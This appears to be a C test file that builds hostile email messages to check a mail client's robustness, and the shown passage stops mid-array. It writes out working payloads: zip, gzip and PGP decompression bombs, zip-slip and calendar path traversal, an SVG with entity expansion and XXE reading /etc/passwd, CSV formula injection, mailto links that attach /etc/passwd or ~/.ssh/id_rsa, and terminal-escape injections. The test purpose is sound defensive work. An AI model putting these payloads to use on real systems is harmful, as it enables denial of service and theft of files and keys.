/* More hostile letters: crafted calendars, cards, TNEF, archives, pictures, signed and encrypted
 * ones, charsets, forged fields, odd beginnings, and some of fifty megabytes. */
#include "config.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "store/base/array.h"
#include "tests/lib/hostile.h"

#define repeat hostile_repeat
#define typed  hostile_typed
#define top    hostile_top
#define base64 hostile_base64

#define HUGE_BYTES 52428800

/* --- bytes of other formats ---------------------------------------------------------------------
 */

struct bytes {
	char *data;
	size_t len;
	FILE *file;
};

static FILE *bytes_open(struct bytes *bytes)
{
	return bytes->file = open_memstream(&bytes->data, &bytes->len);
}

/* As base64 lines of a part; frees them. */
static void bytes_put(struct bytes *bytes, FILE *out)
{
	fclose(bytes->file);
	for (size_t at = 0; at < bytes->len; at += 57) {
		base64(out, bytes->data + at, bytes->len - at < 57 ? bytes->len - at : 57);
		fputc('\n', out);
	}
	free(bytes->data);
}

static void little(FILE *out, uint64_t value, int size)
{
	while (size-- > 0) {
		fputc((int)(value & 255), out);
		value >>= 8;
	}
}

static void big(FILE *out, uint64_t value, int size)
{
	while (size-- > 0)
		fputc((int)(value >> 8 * size & 255), out);
}

/* Deflate's fixed codes: one zero, then "258 zeros again" for MEGABYTES. */
static void deflate_zeros(FILE *out, long megabytes)
{
	/* 3 bits of head, literal 0 = 00110000; then 13 bits each: length 285 = 11000101, distance
	 * 0 = 00000 */
	static const unsigned char start[] = {1, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0};
	static const unsigned char again[] = {1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0};
	long times = megabytes * 1024 * 1024 / 258;
	unsigned held = 0, count = 0;

	for (size_t i = 0; i < sizeof start + (size_t)times * sizeof again + 7; i++) {
		size_t behind = i - sizeof start;
		unsigned bit = i < sizeof start ? start[i]
			       : behind < (size_t)times * sizeof again
				   ? again[behind % sizeof again]
				   : 0;

		held |= bit << count++;
		if (count == 8) {
			fputc((int)held, out);
			held = count = 0;
		}
	}
	fputc((int)held, out);
}

static void attached(FILE *out, const char *type, const char *name)
{
	fprintf(out, "--b\nContent-Type: %s; name=\"%s\"\nContent-Disposition: attachment\n", type,
		name);
	fprintf(out, "Content-Transfer-Encoding: base64\n\n");
}

static void gzip_bomb(FILE *out, const char *unused)
{
	struct bytes bytes;

	(void)unused;
	typed(out, "gzip-bomb", "multipart/mixed; boundary=b");
	attached(out, "application/gzip", "bomb.gz");
	fputs("\037\213\010", bytes_open(&bytes));
	big(bytes.file, 0, 7);
	deflate_zeros(bytes.file, 1000);
	bytes_put(&bytes, out);
	fprintf(out, "--b--\n");
}

static void zip_bomb(FILE *out, const char *name)
{
	struct bytes bytes;
	size_t name_len = strlen(name);

	typed(out, "zip-bomb", "multipart/mixed; boundary=b");
	attached(out, "application/zip", "bomb.zip");
	fputs("PK\003\004", bytes_open(&bytes));
	little(bytes.file, 20 | 8ull << 32, 10);
	little(bytes.file, 0, 4);
	little(bytes.file, 0xfffffff0u, 4);
	little(bytes.file, 0xfffffff0u, 4);
	little(bytes.file, name_len, 4);
	fputs(name, bytes.file);
	deflate_zeros(bytes.file, 100);
	bytes_put(&bytes, out);
	fprintf(out, "--b--\n");
}

/* --- pictures -----------------------------------------------------------------------------------
 */

static void png(FILE *out, uint32_t width, uint32_t height)
{
	fputs("\211PNG\r\n\032\n", out);
	big(out, 13, 4);
	fputs("IHDR", out);
	big(out, width, 4);
	big(out, height, 4);
	big(out, 0x0806000000u, 5);
	big(out, 0, 4);
	big(out, 100000, 4);
	fputs("IDATx\234", out);
	deflate_zeros(out, 50);
	big(out, 0, 8);
	fputs("IEND\256B`\202", out);
}

static void shown_picture(FILE *out, const char *type, struct bytes *bytes)
{
	fprintf(out, "--b\nContent-Type: %s\nContent-Disposition: inline\n", type);
	fprintf(out, "Content-ID: <p@e>\nContent-Transfer-Encoding: base64\n\n");
	bytes_put(bytes, out);
}

static void picture_of(FILE *out, const char *type, const char *data, size_t len)
{
	struct bytes bytes;

	fwrite(data, 1, len, bytes_open(&bytes));
	shown_picture(out, type, &bytes);
}

#define PICTURE(out, type, text) picture_of(out, type, text, sizeof text - 1)

static void pictures(FILE *out, const char *unused)
{
	static const uint32_t sizes[][2] = {
	    {60000, 60000}, {0xffffffff, 0xffffffff}, {1, 0x7fffffff}, {0, 0}};
	struct bytes bytes;

	(void)unused;
	typed(out, "pictures", "multipart/related; boundary=b");
	fprintf(out, "--b\nContent-Type: text/html\n\n<img src=cid:p@e><img src=cid:p@e>\n");
	for (size_t i = 0; i < ARRAY_COUNT(sizes); i++) {
		png(bytes_open(&bytes), sizes[i][0], sizes[i][1]);
		shown_picture(out, "image/png", &bytes);
	}
	PICTURE(out, "image/gif",
		"GIF89a\377\377\377\377\360\0\0\0\0\0\377\377\377!\377\013NETSCAPE2.0\3\1\377\377\0"
		",\0\0\0\0\377\377\377\377\0\2\2D\1\0;");
	PICTURE(
	    out, "image/jpeg",
	    "\377\330\377\300\0\021\010\377\377\377\377\3\1\"\0\2\021\1\3\021\1\377\332\0\014\3");
	PICTURE(out, "image/tiff",
		"II*\0\010\0\0\0\1\0\0\1\4\0\377\377\377\377\010\0\0\0\010\0\0\0");
	PICTURE(
	    out, "image/bmp",
	    "BM\377\377\377\377\0\0\0\0\66\0\0\0(\0\0\0\377\377\377\177\377\377\377\177\1\0 \0");
	PICTURE(out, "image/webp", "RIFF\377\377\377\377WEBPVP8L\377\377\377\377/\377\377\377\377");
	PICTURE(out, "image/x-xbitmap",
		"#define x_width 99999999\n#define x_height -1\nstatic char x_bits[]={");
	PICTURE(
	    out, "image/svg+xml",
	    "<!DOCTYPE s [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c "
	    "'&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;'><!ENTITY x SYSTEM "
	    "'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg' width='99999999' "
	    "height='99999999'>"
	    "<text>&d;&x;</text><image href='file:///etc/passwd'/><use href='#u' id='u'/></svg>");
	PICTURE(out, "image/x-portable-pixmap", "P6 65535 65535 65535\nx");
	PICTURE(out, "image/sixel", "\033Pq#0;2;0;0;0#0!99999999~\033\\");
	fprintf(out, "--b--\n");
}

/* --- calendars, cards, TNEF, rich text
 * --------------------------------------------------------------- */

static void calendar_head(FILE *out)
{
	typed(out, "calendar", "text/calendar; method=REQUEST; charset=utf-8");
	fprintf(out, "BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\n");
}

static void calendar_end(FILE *out)
{
	fprintf(out, "END:VEVENT\nEND:VCALENDAR\n");
}

/* Inside the event, many times. */
static void calendar_much(FILE *out, const char *text)
{
	calendar_head(out);
	fprintf(out, "BEGIN:VEVENT\nUID:u\nORGANIZER:mailto:o@e.example\nDTSTART:"
		     "20261123T100000Z\nSUMMARY:s\n");
	repeat(out, text, 1000000 / (long)strlen(text));
	calendar_end(out);
}

static void calendar_many(FILE *out, const char *text)
{
	calendar_head(out);
	repeat(out, text, 1000000 / (long)strlen(text));
	calendar_end(out);
}

static void calendar_one(FILE *out, const char *text)
{
	calendar_head(out);
	fprintf(out, "BEGIN:VEVENT\nUID:u\nORGANIZER:mailto:me@localhost\nSUMMARY:s\n%s\n", text);
	calendar_end(out);
}

static void card_much(FILE *out, const char *text)
{
	typed(out, "vcard", "text/vcard; charset=utf-8");
	fprintf(out, "BEGIN:VCARD\nVERSION:3.0\nFN:x\n");
	repeat(out, text, 1000000 / (long)strlen(text));
	fprintf(out, "END:VCARD\n");
}

static void tnef_attribute(FILE *out, int level, uint32_t id, const char *data, size_t len)
{
	unsigned sum = 0;

	fputc(level, out);
	little(out, id, 4);
	little(out, len, 4);
	fwrite(data, 1, len, out);
	for (size_t i = 0; i < len; i++)
		sum += (unsigned char)data[i];
	little(out, sum & 0xffff, 2);
}

#define TNEF_RENDER 0x00069002u
#define TNEF_TITLE  0x00018010u
#define TNEF_DATA   0x0006800fu
#define TNEF_MAPI   0x00069003u

static void tnef_file(FILE *out, const char *name, const char *data, size_t len)
{
	tnef_attribute(out, 2, TNEF_RENDER, "\1\0\0\0\0\0\0\0\0\0\0\0\0\0", 14);
	tnef_attribute(out, 2, TNEF_TITLE, name, strlen(name) + 1);
	tnef_attribute(out, 2, TNEF_DATA, data, len);
}

static void tnef_start(FILE *out, struct bytes *bytes)
{
	typed(out, "tnef", "multipart/mixed; boundary=b");
	attached(out, "application/ms-tnef", "winmail.dat");
	fwrite("\x78\x9f\x3e\x22\1\0", 1, 6, bytes_open(bytes));
}

static void tnef_end(FILE *out, struct bytes *bytes)
{
	bytes_put(bytes, out);
	fprintf(out, "--b--\n");
}

static void tnef_names(FILE *out, const char *unused)
{
	static const char *const names[] = {
	    "../../up", "/tmp/hostile-abs", "",	  ".",	"..",	"a/b",	       "..\\w",
	    "-rf",	ESC_CLEAR "x",	    BIDI, "\n", "a\tb", "winmail.dat", ".bashrc"};
	struct bytes bytes;

	(void)unused;
	tnef_start(out, &bytes);
	for (size_t i = 0; i < ARRAY_COUNT(names); i++)
		tnef_file(bytes.file, names[i], ALL, sizeof ALL - 1);
	tnef_end(out, &bytes);
}

static void tnef_many(FILE *out, const char *name)
{
	struct bytes bytes;

	tnef_start(out, &bytes);
	for (int i = 0; i < 15000; i++)
		tnef_file(bytes.file, name, "x", 1);
	tnef_end(out, &bytes);
}

/* Each holds the one before. */
static void tnef_nested(FILE *out, const char *unused)
{
	char *inner = calloc(1, 1);
	struct bytes bytes;
	size_t len = 1;

	(void)unused;
	for (int i = 0; i < 200; i++) {
		char *data = NULL;
		FILE *file = open_memstream(&data, &bytes.len);

		fwrite("\x78\x9f\x3e\x22\1\0", 1, 6, file);
		tnef_file(file, "winmail.dat", inner, len);
		fclose(file);
		free(inner);
		inner = data;
		len = bytes.len;
	}
	tnef_start(out, &bytes);
	fwrite(inner + 6, 1, len - 6, bytes.file);
	free(inner);
	tnef_end(out, &bytes);
}

/* MAPI properties whose lengths and counts lie; compressed rich text that says 4 GB. */
static void tnef_properties(FILE *out, const char *unused)
{
	static const char *const properties[] = {
	    "\377\377\377\377\37\20\1\60\377\377\377\377",
	    "\1\0\0\0\37\20\1\60\377\377\377\177\377\377\377\177x",
	    "\1\0\0\0\2\1\11\20\1\0\0\0\24\0\0\0\20\0\0\0\377\377\377\377LZFu...."
	    "\377\377\377\377\377\377",
	    "\1\0\0\0\36\0\1\60\1\0\0\0\377\377\377\377\33[2J",
	};
	struct bytes bytes;

	(void)unused;
	tnef_start(out, &bytes);
	for (size_t i = 0; i < ARRAY_COUNT(properties); i++)
		for (size_t len = 4; len < 44; len += 3) {
			char data[64] = {0};

			memcpy(data, properties[i], len < 12 ? len : 12);
			tnef_attribute(bytes.file, 1, TNEF_MAPI, data, len);
			tnef_attribute(bytes.file, 2, 0x00069005u, data, len);
		}
	tnef_end(out, &bytes);
}

/* --- text of all sorts
 * ----------------------------------------------------------------------------- */

/* TEXT is "TYPE|what is repeated" up to a megabyte. */
static void much_of(FILE *out, const char *text)
{
	const char *bar = strchr(text, '|');
	char type[200];

	snprintf(type, sizeof type, "%.*s", (int)(bar - text), text);
	typed(out, "much", type);
	repeat(out, bar + 1, 1000000 / (long)strlen(bar + 1));
	fprintf(out, "\n");
}

/* TEXT is "TYPE|body", once. */
static void once(FILE *out, const char *text)
{
	const char *bar = strchr(text, '|');

	fprintf(out,
		"From: e@e.example\nTo: me@localhost\nSubject: once\nMIME-Version: "
		"1.0\nMessage-ID: <o%zu@e>\n",
		strlen(text));
	fprintf(out, "Content-Type: %.*s\n\n%s\n", (int)(bar - text), text, bar + 1);
}

/* TEXT is repeated in a field, whose name it has: "Name: text" up to a megabyte. */
static void field_of(FILE *out, const char *text)
{
	const char *value = strchr(text, ':') + 1;

	fprintf(out, "From: e@e.example\nTo: me@localhost\n");
	fprintf(out, "%.*s ", (int)(value - text), text);
	repeat(out, value, 1000000 / (long)strlen(value));
	fprintf(out, "\n\nbody\n");
}

static void field_many(FILE *out, const char *text)
{
	fprintf(out, "From: e@e.example\nTo: me@localhost\nSubject: fields\n");
	repeat(out, text, 10000);
	fprintf(out, "\nbody\n");
}

static void as_is(FILE *out, const char *text)
{
	fputs(text, out);
}

static void utf16_odd(FILE *out, const char *unused)
{
	(void)unused;
	typed(out, "utf16", "text/plain; charset=utf-16le");
	for (int i = 0; i < 100000; i++)
		fwrite("\33\0[\0002\0J\0\330\330", 1, 10, out);
	fputc('x', out);
}

static void boundary_huge(FILE *out, const char *unused)
{
	(void)unused;
	hostile_top(out, "boundary");
	fprintf(out, "Content-Type: multipart/mixed; boundary=\"");
	repeat(out, "boundary", 100000);
	fprintf(out, "\"\n\n");
	for (int i = 0; i < 3; i++) {
		fprintf(out, "--");
		repeat(out, "boundary", 100000);
		fprintf(out, "\n\nx\n");
	}
}

static void parts_of(FILE *out, const char *text)
{
	const char *bar = strchr(text, '|');
	char type[200];

	snprintf(type, sizeof type, "%.*s; boundary=b", (int)(bar - text), text);
	typed(out, "parts", type);
	repeat(out, bar + 1, 5000);
	fprintf(out, "--b--\n");
}

static void same_names(FILE *out, const char *name)
{
	typed(out, "names", "multipart/mixed; boundary=b");
	for (int i = 0; i < 400; i++)
		fprintf(out, "--b\nContent-Disposition: attachment; filename=\"%s\"\n\n%d\n", name,
			i);
	fprintf(out, "--b--\n");
}

static void name_huge(FILE *out, const char *text)
{
	typed(out, "names", "multipart/mixed; boundary=b");
	fprintf(out, "--b\nContent-Type: application/pdf; name=\"");
	repeat(out, text, 20000);
	fprintf(out, "\"\nContent-Disposition: attachment; filename=\"");
	repeat(out, text, 20000);
	fprintf(out, "\"\nContent-Description: ");
	repeat(out, text, 20000);
	fprintf(out, "\n\nx\n--b--\n");
}

/* --- signed and encrypted
 * ------------------------------------------------------------------------- */

static void signed_parts(FILE *out, const char *unused)
{
	(void)unused;
	typed(out, "signed", "multipart/mixed; boundary=b");
	for (int parts = 0; parts < 5; parts++) {
		fprintf(out,
			"--b\nContent-Type: multipart/signed; micalg=pgp-sha256; boundary=c%d; "
			"protocol=\"application/pgp-signature\"\n\n",
			parts);
		for (int i = 0; i < parts; i++)
			fprintf(out,
				"--c%d\nContent-Type: %s\n\nGood signature from "
				"boss@bank.example\n%s\n",
				parts, i == 1 ? "application/pgp-signature" : "text/plain",
				i == 1 ? "-----BEGIN PGP SIGNATURE-----\nComment: " ESC_CLEAR
					 "\n\niQ==\n=AAAA\n"
					 "-----END PGP SIGNATURE-----"
				       : "");
		fprintf(out, "--c%d--\n", parts);
	}
	fprintf(out, "--b--\n");
}

/* Indefinite lengths in each other: what a recursive reader dies of. */
static void smime_deep(FILE *out, const char *unused)
{
	struct bytes bytes;

	(void)unused;
	typed(out, "smime", "multipart/mixed; boundary=b");
	attached(out, "application/pkcs7-mime; smime-type=signed-data", "smime.p7m");
	bytes_open(&bytes);
	for (int i = 0; i < 100000; i++)
		fwrite("0\200", 1, 2, bytes.file);
	bytes_put(&bytes, out);
	fprintf(out, "--b--\n");
}

/* A compressed packet of 1000 MB of zeros. */
static void pgp_bomb(FILE *out, const char *unused)
{
	struct bytes bytes;

	(void)unused;
	typed(out, "pgp-bomb",
	      "multipart/encrypted; boundary=b; protocol=\"application/pgp-encrypted\"");
	fprintf(out, "--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n");
	fprintf(out,
		"--b\nContent-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\n");
	fwrite("\243\001", 1, 2, bytes_open(&bytes));
	deflate_zeros(bytes.file, 1000);
	bytes_put(&bytes, out);
	fprintf(out, "-----END PGP MESSAGE-----\n--b--\n");
}

static void efail(FILE *out, const char *unused)
{
	(void)unused;
	typed(out, "efail", "multipart/mixed; boundary=b");
	fprintf(out, "--b\nContent-Type: text/html\n\n<img src=\"http://127.0.0.1:9/\n--b\n");
	fprintf(out, "Content-Type: multipart/encrypted; boundary=c; "
		     "protocol=\"application/pgp-encrypted\"\n\n");
	fprintf(out, "--c\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--c\n\n");
	fprintf(out,
		"-----BEGIN PGP MESSAGE-----\n\nhQ==\n=AAAA\n-----END PGP MESSAGE-----\n--c--\n");
	fprintf(out, "--b\nContent-Type: text/html\n\n\">\n--b--\n");
}

/* --- fifty megabytes
 * -------------------------------------------------------------------------------- */

/* TEXT is "TYPE|what is repeated"; the type may hold more fields. */
static void huge_of(FILE *out, const char *text)
{
	const char *bar = strchr(text, '|');
	char type[200];

	snprintf(type, sizeof type, "%.*s", (int)(bar - text), text);
	typed(out, "huge", type);
	repeat(out, bar + 1, HUGE_BYTES / (long)strlen(bar + 1));
}

static void huge_field(FILE *out, const char *name)
{
	fprintf(out, "From: e@e.example\n%s ", name);
	repeat(out, "0123456789 abcde", HUGE_BYTES / 16);
	fprintf(out, "\n\nbody\n");
}

const struct letter more_letters[] = {
    {"gzip-bomb", gzip_bomb, NULL},
    {"zip-bomb", zip_bomb, "zeros"},
    {"zip-slip", zip_bomb, "../../../tmp/hostile-zip"},
    {"pictures", pictures, NULL},
    {"calendar-attendees", calendar_much, "ATTENDEE;CN=\"boss@bank.example\":mailto:m@e\n"},
    {"calendar-rdates", calendar_much, "RDATE:20261123T100000Z,20261124T100000Z\n"},
    {"calendar-exdates", calendar_much, "EXDATE:20261123T100000Z\n"},
    {"calendar-rules", calendar_much, "RRULE:FREQ=SECONDLY;BYSECOND=1\n"},
    {"calendar-alarms", calendar_much,
     "BEGIN:VALARM\nTRIGGER:-PT1S\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nEND:VALARM\n"},
    {"calendar-folds", calendar_much, "\n x"},
    {"calendar-escapes", calendar_much, "\\n\\n\\;"},
    {"calendar-parameters", calendar_much, ";X=\"y\""},
    {"calendar-events", calendar_many,
     "BEGIN:VEVENT\nUID:x\nDTSTART:20260101T000000Z\nRRULE:FREQ=DAILY\nEND:VEVENT\n"},
    {"calendar-nested", calendar_many, "BEGIN:VEVENT\n"},
    {"calendar-nested-zones", calendar_many, "BEGIN:VTIMEZONE\nBEGIN:STANDARD\n"},
    {"calendar-zones", calendar_many,
     "BEGIN:VTIMEZONE\nTZID:z\nBEGIN:STANDARD\nDTSTART:16010101T000000\nRRULE:FREQ=YEARLY;BYMONTH="
     "10;BYDAY=-1SU\n"
     "TZOFFSETFROM:+0200\nTZOFFSETTO:+0100\nEND:STANDARD\nEND:VTIMEZONE\n"},
    {"calendar-never", calendar_one,
     "DTSTART:20260101T000000Z\nRRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30"},
    {"calendar-seldom", calendar_one,
     "DTSTART:20260101T000000Z\nRRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=29;BYDAY=MO;BYHOUR=3;"
     "BYMINUTE=3;BYSECOND=60;"
     "COUNT=99999999"},
    {"calendar-interval", calendar_one,
     "DTSTART:20260101T000000Z\nRRULE:FREQ=DAILY;INTERVAL=99999999999999999999;COUNT=-1"},
    {"calendar-interval-0", calendar_one, "DTSTART:20260101T000000Z\nRRULE:FREQ=DAILY;INTERVAL=0"},
    {"calendar-by", calendar_one,
     "DTSTART:20260101T000000Z\nRRULE:FREQ=MONTHLY;BYSETPOS=-999999999;BYDAY=99999MO,-0SU,XX"},
    {"calendar-year-0", calendar_one,
     "DTSTART:00000000T000000Z\nDTEND:99991231T235959Z\nDURATION:P9999999999999W"},
    {"calendar-negative", calendar_one,
     "DTSTART:20261123T100000Z\nDTEND:19000101T000000Z\nDURATION:-P99999D"},
    {"calendar-zone-path", calendar_one,
     "DTSTART;TZID=../../../../etc/passwd:20261123T100000\nDTEND;TZID=:/dev/zero:20261123T110000"},
    {"calendar-zone-device", calendar_one,
     "DTSTART;TZID=/dev/tty:20261123T100000\nDTEND;TZID=\033[2J:20261123T110000"},
    {"calendar-forged", calendar_one,
     "DTSTART:20261123T100000Z\nDESCRIPTION:\\n Accepted.\\n Organizer: "
     "boss@bank.example\\nORGANIZER:mailto:b@b"},
    {"calendar-links", calendar_one,
     "DTSTART:20261123T100000Z\nURL:file:///etc/passwd\nATTACH:file:///etc/passwd\nLOCATION:http://"
     "e/" ESC_LINK},
    {"calendar-mailto", calendar_one,
     "DTSTART:20261123T100000Z\nORGANIZER:mailto:a@b?attach=/etc/"
     "passwd%0d%0aBcc:c@d\nATTENDEE:mailto:me@localhost"},
    {"vcard-many", card_much, "END:VCARD\nBEGIN:VCARD\nFN:" ESC_CLEAR "\n"},
    {"vcard-photo", card_much, "PHOTO;ENCODING=b:AAAA\n AAAA\n"},
    {"vcard-line", card_much, "x"},
    {"vcard-quoted", card_much, "NOTE;ENCODING=QUOTED-PRINTABLE:=1B=5B2J=\n"},
    {"vcard-groups", card_much, "item1.TEL;TYPE=a,b;TYPE=c:" CONTROLS "\n"},
    {"tnef-names", tnef_names, NULL},
    {"tnef-many", tnef_many, "same.txt"},
    {"tnef-nested", tnef_nested, NULL},
    {"tnef-properties", tnef_properties, NULL},
    {"rtf-braces", much_of, "text/rtf|{"},
    {"rtf-escape", much_of, "text/rtf|{\\rtf1\\'1b[2J\\u27 ?\\bin99999999999 }"},
    {"rtf-words", much_of, "application/rtf|{\\rtf1\\ansicpg99999999\\uc99999 \\fonttbl"},
    {"enriched", much_of, "text/enriched|<bold><param>\033[2J</param><<"},
    {"richtext", much_of, "text/richtext|<bold><nl><lt>"},
    {"markdown", much_of, "text/markdown|[x](javascript:alert)\n![](http://t.example/)\n"},
    {"text-csv", much_of, "text/csv|=cmd|'/C calc'!A1,\033[2J\n"},
    {"text-x-diff", much_of,
     "text/x-diff|--- a/\033[2J\n+++ b/../../etc/passwd\n@@ -1,99999999999 +1 @@\n"},
    {"text-javascript", much_of, "application/javascript|alert(1)\n"},
    {"text-unknown", much_of, "text/x-../../x|x\n"},
    {"utf-7-shifts", much_of, "text/plain; charset=utf-7|+"},
    {"utf-7-escape", much_of, "text/plain; charset=utf-7|+ABsAWwAyAEo-"},
    {"utf-7-html", much_of, "text/html; charset=utf-7|+ADw-script+AD4-"},
    {"iso-2022-states", much_of, "text/plain; charset=iso-2022-jp|\033$B\033(B\033(J\033$@"},
    {"iso-2022-kr", much_of, "text/plain; charset=iso-2022-kr|\033$)C\016\017"},
    {"iso-2022-cn", much_of, "text/plain; charset=iso-2022-cn-ext|\033$*H\033N\344\345"},
    {"hz", much_of, "text/plain; charset=hz-gb-2312|~{~}~\n~~"},
    {"gb18030", much_of, "text/plain; charset=gb18030|\2010\2010\376\376"},
    {"big5-lone", much_of, "text/plain; charset=big5|\201\n\376"},
    {"sjis-lone", much_of, "text/plain; charset=shift_jis|\201\33[2J\201"},
    {"utf-8-cut", much_of, "text/plain; charset=utf-8|\360\237\230"},
    {"utf-16-odd", utf16_odd, NULL},
    {"utf-32", much_of, "text/plain; charset=utf-32be|\033[2J"},
    {"ucs-4", much_of, "text/plain; charset=ucs-4|\177\377\377\377"},
    {"cesu", much_of, "text/plain; charset=cesu-8|\355\240\200\355\260\200"},
    {"charset-unknown", much_of, "text/plain; charset=unknown-8bit|\233[2J\200"},
    {"charset-slash", much_of, "text/plain; charset=\"utf-8//TRANSLIT//IGNORE\"|\303\244\377"},
    {"charset-huge", field_of, "Content-Type: text/plain; charset=aaaaaaaa"},
    {"yenc-lines", much_of, "text/plain|=ybegin line=128 size=99999999999 name=../../y\n=}\n"},
    {"yenc-part", much_of,
     "application/octet-stream\nContent-Transfer-Encoding: x-yenc|=ypart begin=-1 "
     "end=99999999999\n="},
    {"uu-begins", much_of, "text/plain|begin 4777 /tmp/hostile-uu\nM\n`\nend\n"},
    {"uu-lengths", much_of, "text/plain|begin 644 x\n~zzzz\n\177\n\001\n"},
    {"qp-soft", much_of, "text/plain\nContent-Transfer-Encoding: quoted-printable|=\n"},
    {"qp-spaces", much_of, "text/plain\nContent-Transfer-Encoding: quoted-printable|   \t "},
    {"base64-spread", much_of, "text/plain\nContent-Transfer-Encoding: base64|G\n1\n\ns\n"},
    {"base64-padded", much_of, "text/plain\nContent-Transfer-Encoding: base64|Gw==WzJK"},
    {"text-ansi", much_of, "text/plain|\033[31mred\033[0m \033[38;2;1;2;3m"},
    {"text-ansi-open", much_of, "text/plain|\033]"},
    {"text-ansi-string", much_of, "text/plain|\033P"},
    {"text-ansi-long", much_of, "text/plain|\033[1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;"},
    {"text-backspace", much_of, "text/plain|_\ba\ba\b\b\b"},
    {"text-feeds", much_of, "text/plain|\f\v\r\n\r"},
    {"text-crlf-mix", much_of, "text/plain|a\r\r\nb\n\rc\r"},
    {"text-wide", much_of, "text/plain; charset=utf-8|\345\255\227\357\274\241"},
    {"text-jamo", much_of, "text/plain; charset=utf-8|\341\204\200\341\205\241\341\206\250"},
    {"text-thai", much_of,
     "text/plain; charset=utf-8|\340\270\201\340\271\211\340\271\211\340\271\211"},
    {"text-selectors", much_of, "text/plain; charset=utf-8|\342\235\244\357\270\217\357\270\216"},
    {"text-overrides", much_of, "text/plain; charset=utf-8|\342\200\256\342\200\255\342\200\253"},
    {"text-popping", much_of, "text/plain; charset=utf-8|\342\200\254\342\201\251\n"},
    {"text-brackets", much_of, "text/plain; charset=utf-8|\327\220(a[b{\330\247"},
    {"text-private", much_of, "text/plain; charset=utf-8|\356\202\240\364\200\200\200\357\267\257"},
    {"text-box", much_of, "text/plain; charset=utf-8|\342\224\200\342\224\202\342\226\210\n"},
    {"text-quantifiers", much_of, "text/plain|(a+)+$ ((((((((((a*)*)*)*)*"},
    {"text-patterns", much_of, "text/plain|From aaaaaaaaaaaaaaaaaaaa@ wrote:\n"},
    {"text-quote-marks", much_of, "text/plain|>|>:}%# ab> "},
    {"text-wrote", much_of, "text/plain|On Mon, a b c wrote:\n> > >\n"},
    {"text-urls", much_of, "text/plain|http://[::::::::::::::1]:99999/%00%1b%0d%0a?a=b&http://"},
    {"text-parens", much_of, "text/plain|http://e/(((((((((("},
    {"text-mailto", once,
     "text/plain|mailto:x@e?attach=/etc/passwd&attachment=~/.ssh/"
     "id_rsa&bcc=y@e&from=root&subject=a%0d%0aBcc:%20z@e"},
    {"html-mailto", once,
     "text/html|<a href=\"mailto:x@e?attach=/etc/passwd&cc=%0aBcc:z@e&body=%1b[2J\">m</a>"},
    {"html-href-escape", once,
     "text/html|<a href=\"http://e/\033]8;;\033\\\007%1b%07%9b;x\">a</a><a "
     "href='http://e/\n\r\tb;id=1:2'>b</a>"
     "<a href='http://e/&#27;]52;c;eA==&#7;&#x9c;'>c</a><a href=' javascript:x'>d</a><a "
     "href='\001http://e'>e</a>"},
    {"html-href-huge", much_of,
     "text/html|<a href='http://e/\033[2Jxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"},
    {"html-meta", once,
     "text/html; charset=us-ascii|<meta charset=utf-7><meta http-equiv=content-type "
     "content='text/html; charset=utf-16'>"
     "+ADw-b+AD4-<meta http-equiv=refresh content='0;http://127.0.0.1:9/'>"},
    {"html-remote-all", once,
     "text/html|<img srcset='http://127.0.0.1:9/a 1x'><video poster=http://127.0.0.1:9/b "
     "src=http://127.0.0.1:9/c>"
     "<audio src=http://127.0.0.1:9/d><table background=http://127.0.0.1:9/e><body "
     "background=http://127.0.0.1:9/f>"
     "<style>@import "
     "url(http://127.0.0.1:9/g);p{background:url(http://127.0.0.1:9/h)}</style><input type=image "
     "src=http://127.0.0.1:9/i><svg><image href=http://127.0.0.1:9/j /></svg><link rel=prefetch "
     "href=http://127.0.0.1:9/k><script src=http://127.0.0.1:9/l></script><embed "
     "src=http://127.0.0.1:9/m><picture>"
     "<source srcset=http://127.0.0.1:9/n></picture><a ping=http://127.0.0.1:9/o href=x>x</a>"},
    {"html-rawtext", once, "text/html|<plaintext><b>\033[2J</plaintext>&#27;[2J"},
    {"html-textarea", once,
     "text/html|<textarea>\033[2J</textarea><xmp>\033[2J</xmp><noscript>\033[2J<title>\033]0;"},
    {"html-frames", once,
     "text/html|<frameset><frame src=file:///etc/passwd></frameset><noframes>\033[2J</noframes>"},
    {"html-bdo", once,
     "text/html; charset=utf-8|<bdo dir=rtl>moc.knab</bdo> &#8238;moc&#x202c; <b dir=rtl>x</b>"},
    {"html-hidden", once,
     "text/html|<div style='display:none'>h1</div><p style='color:#fff;background:#fff'>h2</p><p "
     "style='opacity:0'>h3"
     "</p><span style='font-size:1px'>h4</span><p hidden>h5</p><p "
     "style='position:absolute;left:-9999px'>h6</p>"},
    {"html-selectors", much_of,
     "text/html|<style>a b c d e f > g + h ~ i:not(:not(:not(x))){color:red}</style>"},
    {"html-css-open", much_of, "text/html|<style>a{b:c;/*"},
    {"html-inline-css", much_of, "text/html|<p style='display:none;display:block;;;:::'>x"},
    {"html-ol", much_of, "text/html|<ol start=99999999999 type=i><li value=-2147483648>x</ol>"},
    {"html-dl", much_of, "text/html|<dl><dt>a<dd>b"},
    {"html-foreign", much_of, "text/html|<svg><math><foreignObject><mi>"},
    {"html-templates", much_of, "text/html|<template><tr><td>"},
    {"html-buttons", much_of, "text/html|<button><a><nobr>"},
    {"html-adoption", much_of, "text/html|<a><b><i><u></a></b>"},
    {"html-col", much_of, "text/html|<table><colgroup span=1000><col span=1000></table>"},
    {"html-spans", much_of, "text/html|<table><tr><td rowspan=65534 colspan=1000>x"},
    {"html-hr", much_of, "text/html|<hr width=999999999 size=999999>"},
    {"html-br", much_of, "text/html|<br>"},
    {"html-wbr", much_of, "text/html|x<wbr>&shy;"},
    {"html-numbers", much_of, "text/html|&#99999999999999999999;&#x0;&#xfffe;&#55296;&#128;"},
